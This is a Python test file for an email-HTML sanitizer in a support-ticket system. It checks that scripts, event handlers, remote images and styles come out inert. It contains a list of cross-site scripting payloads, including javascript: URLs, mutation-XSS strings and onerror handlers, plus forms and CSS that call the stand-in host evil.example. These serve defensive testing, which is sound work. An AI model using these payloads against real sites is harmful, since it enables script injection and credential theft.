"""Mail HTML shown to agents: nothing runs, nothing remote loads until asked for."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.adapters.mime.parser import parse_email
from chalicelib.adapters.render.sanitize import sanitize_html
from tests.conftest import FIXTURES

PRESIGNED = (
    "https://bucket.s3.amazonaws.com/attachments/m/000/error.png?X-Amz-Signature=ab&X-Amz-Date=1"
)


FORBIDDEN_TAGS = {"script", "style", "iframe", "form", "input", "button", "object", "embed",
                  "svg", "math", "meta", "base", "link", "frame", "frameset"}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "srcset", "xlink:href"}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def assert_inert(html: str) -> None:
    """No element that runs, submits or loads anything but our own presigned links."""
    parser = Tags()
    parser.feed(html)
    for tag, attrs in parser.found:
        assert tag not in FORBIDDEN_TAGS, html
        for name, value in attrs.items():
            assert not name.startswith("on"), html
            if name in URL_ATTRIBUTES:
                url = value.strip().lower()
                assert url.startswith(("https://", "http://", "mailto:", "data:image/png")), html
            if tag == "img" and name == "src":
                assert value.startswith(("https://bucket.s3", "data:image/")), html
            if name == "style":
                assert "url(" not in value.lower(), html


def test_the_script_fixture_keeps_its_text_and_loses_every_payload() -> None:
    mail = parse_email((FIXTURES / "script_html.eml").read_bytes())
    assert mail.html is not None
    clean = sanitize_html(mail.html)
    assert_inert(clean)
    assert "evil.example" not in clean and "document.cookie" not in clean
    assert "Hello support," in clean and "my account" in clean and "Thanks, Mallory" in clean


def test_remote_images_become_placeholders_that_keep_the_address() -> None:
    clean = sanitize_html('<p>Hi</p><img src="https://tracker.example/p.gif?u=1&amp;t=2" alt="x">')
    assert 'data-remote-src="https://tracker.example/p.gif?u=1&amp;t=2"' in clean
    assert " src=" not in clean and 'alt="x"' in clean


def test_cid_images_point_at_their_inline_attachment() -> None:
    clean = sanitize_html(
        '<img src="cid:9C2E@example.com" alt="e">', {"9C2E@example.com": PRESIGNED}
    )
    assert (
        'src="https://bucket.s3.amazonaws.com/attachments/m/000/error.png?X-Amz-Signature=ab&amp;X-Amz-Date=1"'
        in clean
    )


def test_an_unknown_cid_image_has_no_source() -> None:
    assert sanitize_html('<img src="cid:nothing-here" alt="e">') == '<img alt="e">'


def test_links_open_apart_and_pass_nothing_on() -> None:
    clean = sanitize_html('<a href="https://shop.example/o/1">order</a>')
    assert 'rel="noopener noreferrer nofollow"' in clean and 'target="_blank"' in clean


@pytest.mark.parametrize(
    "payload",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        "<svg><script>alert(1)</script></svg>",
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<form action="https://evil.example"><input name="pw"><button>go</button></form>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<style>@import url(https://evil.example/x.css)</style>",
        '<p style="background:url(https://evil.example/t.gif)">x</p>',
        '<p style="color: red; behavior: url(x.htc)">x</p>',
        '<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>',
        '<img srcset="https://evil.example/a.png 1x">',
        '<img data-remote-src="javascript:alert(1)">',
        '<div onclick="alert(1)" onmouseover="alert(2)">x</div>',
        '<body onload="alert(1)">x</body>',
        '<a href="/api/tickets/1001">relative</a>',
        "<img src=x onerror=alert(1)//>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
)
def test_hostile_html_is_inert(payload: str) -> None:
    clean = sanitize_html(payload)
    assert_inert(clean)
    assert "evil.example" not in clean.replace("data-remote-src", "")


def test_inline_data_images_stay_and_plain_formatting_survives() -> None:
    clean = sanitize_html(
        '<p dir="rtl" style="color:#333;text-align:right">سلام</p>'
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
        "<table><tr><td><b>1</b></td></tr></table>"
    )
    assert 'dir="rtl"' in clean and "color:#333" in clean and "<b>1</b>" in clean
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in clean


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["<img src=", "<a href=", "javascript:", "https://x.example/i.png", '"', "'", ">",
             "<script>", "onerror=", "alert(1)", "<svg", "</", "cid:a", " ", "=", "<p>", "&#106;"]
        ),
        max_size=30,
    )
)  # fmt: skip
def test_any_mix_of_fragments_comes_out_inert(parts: list[str]) -> None:
    assert_inert(sanitize_html("".join(parts)))
